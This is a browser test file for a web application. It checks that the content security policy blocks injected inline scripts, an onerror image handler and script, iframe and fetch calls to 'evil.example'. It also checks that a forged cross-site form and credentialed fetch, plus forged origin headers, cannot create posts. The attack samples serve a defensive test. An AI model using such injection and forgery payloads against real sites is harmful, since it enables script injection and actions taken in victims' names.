import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import supertest from 'supertest';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { expectSound, launch, open } from './browser.js';
import { DeskClient } from './desk-client.js';

const desk = new DeskClient(inject('home'));
/** Reached by a link of a letter only; each is tried where that letter is. */
const LEFT_OUT = ['/invitation', '/new-password', '/sign-in'];

/** What the policy kept from happening, as the page itself is told. */
const violations = (page: Page) => page.evaluate(() => (window as unknown as { kept: string[] }).kept);

async function watched(browser: Browser, locale = 'en-GB') {
  const opened = await open(browser, 'about:blank', { locale, width: 1280, colorScheme: 'dark' });
  await opened.context.addInitScript(() => {
    const kept: string[] = [];
    Object.assign(window, { kept });
    document.addEventListener('securitypolicyviolation', (event) =>
      kept.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
  return opened;
}

/** Every page there is, as the application's own router lists them. */
async function routes(page: Page): Promise<string[]> {
  const paths = await page.evaluate(() => {
    const { __TSR_ROUTER__: router } = window as unknown as {
      __TSR_ROUTER__: { routesByPath: Record<string, unknown> };
    };
    return Object.keys(router.routesByPath);
  });
  return paths.filter((path) => !LEFT_OUT.includes(path));
}

async function signIn(page: Page): Promise<void> {
  await page.goto(desk.run.urls.web);
  await page.getByRole('button', { name: 'Sign in as admin' }).click();
  await page.getByRole('heading', { name: 'Today', level: 1 }).waitFor();
}

describe.skipIf(!process.env['CHROMIUM_PATH'])('the policy of the pages', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launch();
  });
  afterAll(() => browser.close());

  it('lets every page do what it does, for everybody and in the dark', async () => {
    const { page, faults } = await watched(browser);
    await signIn(page);
    const { id } = await desk.create({ title: 'One of all', scheduledAt: undefined });
    const share = await desk.api.post('/api/v1/analytics/shares').send({ choice: {}, days: 1 }).expect(201);
    const token = (share.body as { url: string }).url.split('/').at(-1) ?? '';
    const pages = (await routes(page)).map((path) => path.replace('$postId', id).replace('$token', token));
    expect(pages.length).toBeGreaterThan(20);
    for (const path of [...pages, '/calendar?view=month', '/calendar?view=accounts']) {
      await page.goto(`${desk.run.urls.web}${path}`);
      await expectSound(page);
      expect([path, await violations(page)]).toEqual([path, []]);
    }
    expect(faults).toEqual([]);
  });

  it('runs nothing that somebody brings into a page, and tells nobody of it', async () => {
    const { page } = await watched(browser);
    await signIn(page);
    await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.ran = true';
      document.body.append(script);
      const picture = document.createElement('div');
      picture.innerHTML = '<img src="/none" onerror="window.ran = true">';
      document.body.append(picture);
      const foreign = document.createElement('script');
      foreign.src = 'https://evil.example/steal.js';
      document.body.append(foreign);
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
      await fetch('https://evil.example/told').catch(() => undefined);
    });
    await page.waitForFunction(() => (window as unknown as { kept: string[] }).kept.length >= 5);
    const kept = await violations(page);
    for (const directive of ['script-src-elem', 'script-src-attr', 'frame-src', 'connect-src'])
      expect(kept.some((each) => each.startsWith(directive))).toBe(true);
    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  });
});

/** Pages of somebody else that send to the desk what its visitor's browser lets them. */
function foreignSite(target: string): Promise<Server> {
  const fields = JSON.stringify({ kind: 'news', title: 'Forged', body: 'Forged', accountIds: ['a'] });
  const server = createServer((request, response) => {
    response.setHeader('content-type', 'text/html; charset=utf-8');
    if (request.url === '/form')
      return response.end(`<form method="post" enctype="text/plain" action="${target}">
        <input name='{"forged":"' value='"}'></form><script>document.forms[0].submit()</script>`);
    response.end(`<script>
      const send = (type, mode) => fetch('${target}', { method: 'POST', mode, credentials: 'include',
        headers: { 'content-type': type }, body: ${JSON.stringify(fields)} }).then((a) => a.type + a.status, String);
      Promise.all([send('text/plain', 'no-cors'), send('application/json', 'cors')])
        .then((answers) => { document.title = answers.join(' '); });
    </script>`);
  });
  return new Promise((resolve) => server.listen(0, () => resolve(server)));
}

describe.skipIf(!process.env['CHROMIUM_PATH'])('another site', () => {
  let browser: Browser;
  let site: Server;
  beforeAll(async () => {
    browser = await launch();
    site = await foreignSite(`${desk.run.urls.web}/api/v1/posts`);
  });
  afterAll(async () => {
    await browser.close();
    await new Promise((resolve) => site.close(resolve));
  });

  // 127.0.0.1 on another port is another origin of the same site, to which cookies do travel; localhost is another site.
  it.each(['127.0.0.1', 'localhost'])('at %s writes nothing in the name of who visits it', async (host) => {
    const { page } = await open(browser, 'about:blank', { locale: 'en-GB', width: 1280 });
    await signIn(page);
    const count = async () =>
      ((await desk.api.get('/api/v1/posts?limit=1&q=Forged').expect(200)).body as { items: unknown[] }).items;
    const { port } = site.address() as AddressInfo;
    await page.goto(`http://${host}:${port}/fetch`);
    await page.waitForFunction(() => document.title !== '');
    // Nothing can be read of the answers either.
    expect(await page.title()).toBe('TypeError: Failed to fetch TypeError: Failed to fetch');
    await page.goto(`http://${host}:${port}/form`);
    await page.waitForURL(/\/api\/v1\/posts/);
    expect(await page.content()).toMatch(/foreign-page|not-signed-in|media-type/);
    expect(await count()).toEqual([]);
  });

  it('is refused by the service itself, whatever a browser sends along', async () => {
    const [admin] = desk.run.demo.users.filter(({ role }) => role === 'admin');
    const { web } = desk.run.urls;
    const signedIn = await supertest(web)
      .post('/api/v1/auth/sign-in/email')
      .set('origin', web)
      .send({ email: admin?.email, password: admin?.password })
      .expect(200);
    const lines = signedIn.headers['set-cookie'] as unknown as string[];
    const cookie = lines.map((line) => line.split(';')[0]).join('; ');
    const body = { kind: 'news', title: 'Forged', body: 'Forged', accountIds: [] };
    const send = (path: string, headers: Record<string, string>) =>
      supertest(web)
        .post(path)
        .set({ cookie, ...headers })
        .send(body);
    const foreign: Record<string, string>[] = [
      { origin: 'https://evil.example' },
      { origin: 'null' },
      { 'sec-fetch-site': 'cross-site' },
      { origin: web, 'sec-fetch-site': 'same-site' },
    ];
    for (const headers of foreign) {
      const { body: problem } = await send('/api/v1/posts', headers).expect(403);
      expect((problem as { code: string }).code).toBe('foreign-page');
    }
    for (const path of ['/api/v1/auth/sign-out', '/api/v1/auth/change-password'])
      await send(path, { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' }).expect(403);
    // Its own page is heard, and nobody was signed out.
    await send('/api/v1/posts', { origin: web, 'sec-fetch-site': 'same-origin' }).expect(422);
  });
});
